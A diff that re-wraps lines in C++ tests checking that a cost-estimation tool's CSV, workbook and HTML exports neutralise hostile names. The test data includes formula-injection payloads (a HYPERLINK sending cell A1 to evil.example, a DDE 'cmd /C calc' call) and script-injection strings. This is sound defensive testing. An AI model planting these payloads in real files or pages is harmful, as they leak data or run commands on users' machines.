@@ -31,8 +31,8 @@ namespace {
 // with quotes, commas and line ends that are not formulas (they must come back unchanged).
 std::vector<std::string> formulaNames() {
     const std::vector<std::string> leads = {"=", "+", "-", "@", "\t", "\r", "\t=", "\r="};
-    const std::vector<std::string> payloads = {"HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "2+3+cmd|' /C calc'!A0",
-                                               "SUM(1)", "1", "cmd|calc, \"x\"\nnext"};
+    const std::vector<std::string> payloads = {"HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+                                               "2+3+cmd|' /C calc'!A0", "SUM(1)", "1", "cmd|calc, \"x\"\nnext"};
     std::vector<std::string> out;
     for (const std::string& lead : leads)
         for (const std::string& payload : payloads) out.push_back(lead + payload);
@@ -71,9 +71,12 @@ bool isPlainNumber(const std::string& cell) {
     std::size_t i = cell.size() > 1 && cell[0] == '-' ? 1 : 0;
     bool digits = false, point = false;
     for (; i < cell.size(); ++i) {
-        if (std::isdigit(static_cast<unsigned char>(cell[i]))) digits = true;
-        else if (cell[i] == '.' && !point) point = true;
-        else return false;
+        if (std::isdigit(static_cast<unsigned char>(cell[i])))
+            digits = true;
+        else if (cell[i] == '.' && !point)
+            point = true;
+        else
+            return false;
     }
     return digits;
 }
@@ -87,15 +90,18 @@ const std::vector<CsvWriter>& csvWriters() {
     static const std::vector<CsvWriter> writers = {
         {"tagging plan", [](const m::Scenario& s, const m::Result& r) { return taggingPlanCsv(s, r); }},
         {"Cloud Migration Factory intake", [](const m::Scenario& s, const m::Result& r) { return cmfIntakeCsv(s, r); }},
-        {"monthly series", [](const m::Scenario& s, const m::Result& r) { return seriesCsv(s, r, SeriesPeriod::Monthly); }},
-        {"yearly series", [](const m::Scenario& s, const m::Result& r) { return seriesCsv(s, r, SeriesPeriod::Yearly); }},
+        {"monthly series",
+         [](const m::Scenario& s, const m::Result& r) { return seriesCsv(s, r, SeriesPeriod::Monthly); }},
+        {"yearly series",
+         [](const m::Scenario& s, const m::Result& r) { return seriesCsv(s, r, SeriesPeriod::Yearly); }},
     };
     return writers;
 }
 
 } // namespace
 
-TEST_CASE("a formula-leading text cell is written with an apostrophe, other text and numbers are not touched", "[io][csv][safety]") {
+TEST_CASE("a formula-leading text cell is written with an apostrophe, other text and numbers are not touched",
+          "[io][csv][safety]") {
     for (const std::string& name : formulaNames()) {
         CAPTURE(name);
         std::string line;
@@ -122,7 +128,8 @@ TEST_CASE("a formula-leading text cell is written with an apostrophe, other text
     CHECK(startsLikeFormula("\r"));
 }
 
-TEST_CASE("no CSV the product writes has a text cell that starts like a formula, whatever the names", "[io][csv][safety]") {
+TEST_CASE("no CSV the product writes has a text cell that starts like a formula, whatever the names",
+          "[io][csv][safety]") {
     const m::Scenario s = hostileEstate();
     const m::Result r = m::estimate(s);
     for (const auto& e : r.errors) UNSCOPED_INFO(e.toString());
@@ -145,8 +152,10 @@ TEST_CASE("no CSV the product writes has a text cell that starts like a formula,
             }
         for (const std::string& cell : csv.table.header) CHECK_FALSE(startsLikeFormula(cell));
         // The writers that carry names did meet the hostile ones (the check above is not vacuous).
-        if (std::string(writer.name).find("series") == std::string::npos) CHECK(neutralised > 0);
-        else CHECK(negatives > 0); // the series carries negative amounts, still written as numbers
+        if (std::string(writer.name).find("series") == std::string::npos)
+            CHECK(neutralised > 0);
+        else
+            CHECK(negatives > 0); // the series carries negative amounts, still written as numbers
     }
 }
 
@@ -158,7 +167,9 @@ TEST_CASE("the workbook writes hostile names as strings, never as formulas", "[i
     for (const XlsxSheet& sheet : businessCaseSheets(s, r, assumptionSources(*est::assets::find("defaults.json"))))
         for (const std::vector<XlsxCell>& row : sheet.rows)
             for (const XlsxCell& cell : row) {
-                if (cell.kind == XlsxCell::Kind::Text && cell.text == "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")") ++namesSeen;
+                if (cell.kind == XlsxCell::Kind::Text &&
+                    cell.text == "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")")
+                    ++namesSeen;
                 CHECK(cell.formula.find("HYPERLINK") == std::string::npos);
                 CHECK(cell.formula.find("cmd") == std::string::npos);
             }
@@ -170,7 +181,8 @@ TEST_CASE("the workbook writes hostile names as strings, never as formulas", "[i
     REQUIRE(zip);
     std::string sharedStrings;
     REQUIRE(zip->read("xl/sharedStrings.xml", sharedStrings).empty());
-    CHECK(sharedStrings.find("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;open&quot;)") != std::string::npos);
+    CHECK(sharedStrings.find("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;open&quot;)") !=
+          std::string::npos);
     std::size_t sheets = 0;
     for (const ZipEntry& entry : zip->entries()) {
         if (entry.name.rfind("xl/worksheets/", 0) != 0) continue;
@@ -186,7 +198,8 @@ TEST_CASE("the workbook writes hostile names as strings, never as formulas", "[i
     CHECK(sheets > 1);
 }
 
-TEST_CASE("every HTML export escapes hostile names and carries the strict Content-Security-Policy", "[io][html][safety]") {
+TEST_CASE("every HTML export escapes hostile names and carries the strict Content-Security-Policy",
+          "[io][html][safety]") {
     m::Scenario s = hostileEstate();
     s.settings.name = "\"><img src=x onerror=alert(1)><script>alert(2)</script>";
     s.workloads[0].name = "<script>alert(3)</script>";
@@ -198,13 +211,15 @@ TEST_CASE("every HTML export escapes hostile names and carries the strict Conten
     const std::vector<std::pair<const char*, std::string>> pages = {
         {"report", htmlReport(s, r, embeddedDefaults().ledger)},
         {"executive summary", executiveSummaryHtml(s, r, embeddedDefaults().ledger, &partner, "2026-12-02")}};
-    const std::string cspMeta = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; "
-                                "style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'\">";
+    const std::string cspMeta =
+        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; "
+        "style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'\">";
     for (const auto& [name, html] : pages) {
         CAPTURE(name);
         CHECK(html.find("<script") == std::string::npos);
         CHECK(html.find("<img src=x") == std::string::npos);
-        CHECK(html.find("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;") != std::string::npos);
+        CHECK(html.find("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;") !=
+              std::string::npos);
         // The policy comes first in the head, before the title: before any text a name could reach.
         const std::size_t policy = html.find(cspMeta);
         REQUIRE(policy != std::string::npos);
